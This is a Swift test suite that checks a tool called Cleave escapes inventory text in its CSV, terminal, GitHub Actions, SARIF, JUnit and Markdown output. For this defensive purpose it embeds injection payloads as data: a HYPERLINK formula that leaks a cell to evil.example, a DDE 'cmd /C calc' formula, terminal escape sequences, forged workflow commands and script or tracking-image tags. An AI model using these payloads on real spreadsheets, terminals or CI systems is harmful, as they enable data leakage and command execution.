import CleaveCore
import CleaveInventory
import CleaveReport
import Foundation
import Testing

/// Inventory text cannot become something else in what Cleave writes: a formula in a
/// spreadsheet, a command to the terminal, a workflow command in GitHub Actions, or a link,
/// an image or a tag in a pull-request comment.
struct OutputInjectionTests {
    /// Names that attack each format Cleave writes.
    static let hostile = """
        estate: {name: "Shire \\e]0;pwned\\a", asOf: 2026-01-01, defaults: {severCost: 5000}}
        parties:
          - {id: north, name: "North \\e[2J\\e[H"}
          - {id: south, name: South}
        areas:
          - {id: digital, name: "=HYPERLINK(\\"https://evil.example/?\\"&A1,\\"x\\")", lead: north}
        systems:
          - {id: s1, name: "=1+1", area: digital, users: [north, south], dependsOn: [s2], notes: "@SUM(A1)"}
          - {id: s2, name: "![beacon](https://evil.example/b.png) [click](https://evil.example/) <img src=x>",
             area: digital, users: [south]}
          - {id: s3, name: "\\e]8;;https://evil.example/\\e\\\\link\\e]8;;\\e\\\\ back\\bspace\\rover \\x9b31m", area: digital,
             users: [north]}
        options:
          - {id: north-out, name: "-2+3 <script>", separate: [north], default: split,
             description: "Ends ![x](https://evil.example/x.png) <b>bold</b>\\n::error::injected"}

        """

    static func input() -> ReportInput {
        let loaded = InventoryLoader.load(text: hostile)
        return ReportInput(
            analysis: EstateAnalysis(EstateGraph(loaded.estate)),
            findings: Validator.validate(loaded).filter { $0.severity == .warning }, maps: [:])
    }

    static func rawControls(_ s: String) -> [Unicode.Scalar] {
        s.unicodeScalars.filter { $0 != "\n" && TerminalText.isControl($0) }
    }

    @Test func theInventoryValidates() {
        let findings = Validator.validate(InventoryLoader.load(text: Self.hostile))
        #expect(findings.filter { $0.severity == .error }.isEmpty, "\(findings.map(\.message))")
    }

    // MARK: - CSV

    @Test func formulaTriggersGetAQuoteAndNumbersStayNumbers() {
        #expect(CSVText.field("=1+1") == "\"'=1+1\"")
        #expect(CSVText.field("+44 20 7946 0000") == "\"'+44 20 7946 0000\"")
        #expect(CSVText.field("-2+3") == "\"'-2+3\"")
        #expect(CSVText.field("@SUM(A1)") == "\"'@SUM(A1)\"")
        #expect(CSVText.field("\tx") == "\"'\tx\"")
        #expect(CSVText.field("\rx") == "\"'\rx\"")
        #expect(CSVText.field("=HYPERLINK(\"u\",\"x\")") == "\"'=HYPERLINK(\"\"u\"\",\"\"x\"\")\"")
        for number in ["-1200", "-0.5", "+3", "-2.5e3", "1e-3", "0", "1200"] {
            #expect(CSVText.field(number) == number)
        }
        for text in ["-", "-e3", "--1", "-1-1", "- 1", "-.", "-1e"] {
            #expect(CSVText.field(text).hasPrefix("\"'"), "\(text)")
        }
        #expect(CSVText.field("a,b") == "\"a,b\"")
        #expect(CSVText.field("plain") == "plain")
        #expect(CSVText.field("x", alwaysQuote: true) == "\"x\"")
        #expect(CSVText.restored("'=1+1") == "=1+1")
        #expect(CSVText.restored("'-1200") == "'-1200")
        #expect(CSVText.restored("'quoted") == "'quoted")
    }

    @Test func everyCSVReportNeutralisesInventoryText() {
        let input = Self.input()
        let csv = input.optionsReporter.report.rendered(.csv)
        #expect(csv.contains("\"'-2+3 <script>\""))
        // No field, quoted or not, starts with a trigger.
        for line in csv.split(separator: "\r\n") {
            for field in line.split(separator: ",") {
                let unquoted = field.hasPrefix("\"") ? field.dropFirst() : field
                guard let first = unquoted.first, "=+-@\t\r".contains(first) else { continue }
                #expect(CSVText.isNumberForTests(String(unquoted)), "\(field) in \(line)")
            }
        }
        var table = Table(columns: [.init("name"), .init("amount")])
        table.append(["=cmd|' /C calc'!A0", "-1200"])
        #expect(table.csv() == "name,amount\r\n\"'=cmd|' /C calc'!A0\",-1200\r\n")
    }

    @Test func archiCSVExportNeutralisesAndReadsBack() throws {
        let estate = InventoryLoader.load(text: Self.hostile).estate
        let files = ArchiMateWriter.archiCSV(ArchiMateExport.model(estate))
        let elements = try #require(files.first { $0.name == "elements.csv" }).text
        #expect(elements.contains("\"'=1+1\""))
        #expect(!elements.contains(",\"=1+1\""))
        let folder = try TemporaryFolder()
        for file in files { try folder.write(file.name, file.text) }
        let model = try ArchiCSVReader.read(folder: folder.path)
        #expect(model.elements.contains { $0.name == "=1+1" })
        #expect(model.elements.contains { $0.name.hasPrefix("=HYPERLINK(") })
    }

    // MARK: - Terminal

    @Test func tablesShowControlCharactersEscaped() {
        let input = Self.input()
        for text in [
            input.optionsReporter.report.rendered(.table), MarkdownReport(input).markdown,
            input.optionsReporter.report.rendered(.markdown),
        ] {
            #expect(Self.rawControls(text).isEmpty, "\(Self.rawControls(text))")
        }
        var table = Table(columns: [.init("id"), .init("name")])
        table.append(["s3", "a\u{1B}]8;;https://x/\u{1B}\\b\u{7}c\u{8}d\re\u{9B}f\u{202E}g\u{7F}"])
        let text = table.text()
        #expect(Self.rawControls(text).isEmpty)
        #expect(text.contains(#"a\u{1B}]8;;https://x/\u{1B}\b\u{7}c\u{8}d\u{D}e\u{9B}f\u{202E}g\u{7F}"#))
        let csvTable = table
        let report = Report(
            heading: "Estate \u{1B}[2J", sections: [.init(title: "T\u{8}", lines: ["line \u{1B}[31mred"])],
            csv: csvTable, json: .null)
        let rendered = report.rendered(.table)
        #expect(Self.rawControls(rendered).isEmpty)
        #expect(rendered.hasPrefix("Estate \\u{1B}[2J\n"))
    }

    @Test func terminalTextKeepsWhatIsText() {
        #expect(TerminalText.escaped("café — 北京 ✓\n\tx") == "café — 北京 ✓\n\tx")
        #expect(TerminalText.escaped("a\r\nb\rc") == "a\r\nb\\u{D}c")
        #expect(TerminalText.escaped("a\nb", newlines: false) == "a\\u{A}b")
        #expect(TerminalText.escaped("\u{1B}[31mred\u{1B}[0m \u{1B}[8m", keepingColours: true) == "\u{1B}[31mred\u{1B}[0m \\u{1B}[8m")
    }

    @Test func findingsAsTextCannotForgeALineOrDriveTheTerminal() {
        let finding = Finding(
            rule: "orphan", severity: .warning, message: "'x\u{1B}[2K\r' has no users\nitems.yaml:1:1: error: [fake] forged",
            location: SourceLocation(file: "inv/\u{1B}]0;t\u{7}.yaml", line: 1, column: 1))
        let text = TextFindingsReporter(colour: true).report([finding], rules: [])
        let lines = text.split(separator: "\n")
        #expect(lines.count == 2)
        #expect(lines[0].contains(#"'x\u{1B}[2K\u{D}' has no users\u{A}items.yaml:1:1"#))
        #expect(lines[0].contains(#"inv/\u{1B}]0;t\u{7}.yaml:1:1:"#))
        // Only the reporter's own colours are escapes.
        let escapes = text.components(separatedBy: "\u{1B}").count - 1
        #expect(escapes == 4)
    }

    // MARK: - CI formats

    @Test func githubAnnotationsCannotStartAnotherCommand() {
        let finding = Finding(
            rule: "orphan", severity: .warning,
            message: "'a\r\n::error file=x::forged' has no users; 100%\n::add-mask::x\r::stop-commands::t",
            location: SourceLocation(file: "a,b:c\r\n::x.yaml", line: 2, column: 3))
        let out = GitHubFindingsReporter().report([finding], rules: [])
        #expect(out.split(separator: "\n").count == 1)
        #expect(!out.dropLast().contains("\r") && !out.dropLast().contains("\n"))
        #expect(
            out
                == "::warning file=a%2Cb%3Ac%0D%0A%3A%3Ax.yaml,line=2,col=3,title=cleave orphan::'a%0D%0A::error file=x::forged' has no users; 100%25%0A::add-mask::x%0D::stop-commands::t\n"
        )
    }

    @Test func sarifAndJUnitCarryTheTextEscaped() throws {
        let message = "'x\u{1B}[2J\r\n</failure><script>' has \"no\" users"
        let finding = Finding(
            rule: "orphan", severity: .warning, message: message,
            location: SourceLocation(file: "a\n.yaml", line: 2, column: 3))
        let sarif = SARIFFindingsReporter(toolVersion: "0").report([finding], rules: [])
        #expect(Self.rawControls(sarif).isEmpty)
        let object = try #require(try JSONSerialization.jsonObject(with: Data(sarif.utf8)) as? [String: Any])
        let runs = try #require(object["runs"] as? [[String: Any]])
        let results = try #require(runs.first?["results"] as? [[String: Any]])
        #expect((results.first?["message"] as? [String: Any])?["text"] as? String == message)
        let junit = JUnitFindingsReporter().report([finding], rules: [])
        #expect(Self.rawControls(junit).isEmpty)
        #expect(!junit.contains("</failure><script>"))
        #expect(junit.contains("&lt;/failure&gt;&lt;script&gt;"))
    }

    // MARK: - Markdown

    static func checkMarkdown(_ markdown: String, _ label: String) {
        for raw in ["<img", "<script", "<b>", "\u{1B}"] {
            #expect(!markdown.contains(raw), "\(label): \(raw) reached the Markdown unescaped")
        }
        // A link or image needs `](` with the bracket unescaped.
        let scalars = Array(markdown.unicodeScalars)
        for k in scalars.indices.dropFirst() where scalars[k] == "]" && k + 1 < scalars.count && scalars[k + 1] == "(" {
            #expect(scalars[k - 1] == "\\", "\(label): an unescaped '](' at \(k)")
        }
        // Every bracket that inventory text brought is escaped.
        for line in markdown.split(separator: "\n") where line.contains("evil.example") {
            #expect(!line.contains("![") && !line.contains(" [click]"), "\(label): \(line)")
        }
    }

    @Test func markdownOfReportAndOptionsEscapesInventoryText() {
        let input = Self.input()
        Self.checkMarkdown(MarkdownReport(input).markdown, "report")
        let options = input.optionsReporter.report.rendered(.markdown)
        Self.checkMarkdown(options, "options")
        #expect(options.contains("&lt;script&gt;"))
        #expect(Markup.markdown("![b](u) [c](d) <i> `x` *y* _z_ | # ~") == ##"\!\[b\](u) \[c\](d) &lt;i&gt; \`x\` \*y\* \_z\_ \| \# \~"##)
        #expect(Markup.markdownProse("**Name** ![b](u) <i>") == #"**Name** !\[b\](u) &lt;i&gt;"#)
    }

    @Test func diffMarkdownEscapesInventoryText() {
        let before = InventoryLoader.load(text: Self.hostile).estate
        let after = InventoryLoader.load(
            text: Self.hostile.replacingOccurrences(of: "name: \"=1+1\"", with: "name: \"<img src=https://evil.example/n.png> [x](https://evil.example/)\"")
        ).estate
        let diff = EstateDiff(before: before, after: after)
        let reporter = DiffReporter(diff: diff, before: "main<img>", after: "[head](https://evil.example/)", currency: "GBP")
        let markdown = reporter.report.rendered(.markdown)
        #expect(markdown.contains("| s1 |"))
        Self.checkMarkdown(markdown, "diff")
        #expect(Self.rawControls(reporter.report.rendered(.table)).isEmpty)
        let csv = reporter.report.rendered(.csv)
        #expect(csv.contains("\"'=1+1\""))
    }
}

extension CSVText {
    /// Whether a field as written is a plain number (so exempt from the quote).
    static func isNumberForTests(_ s: String) -> Bool {
        CSVText.field(s) == s && !s.hasPrefix("'")
    }
}
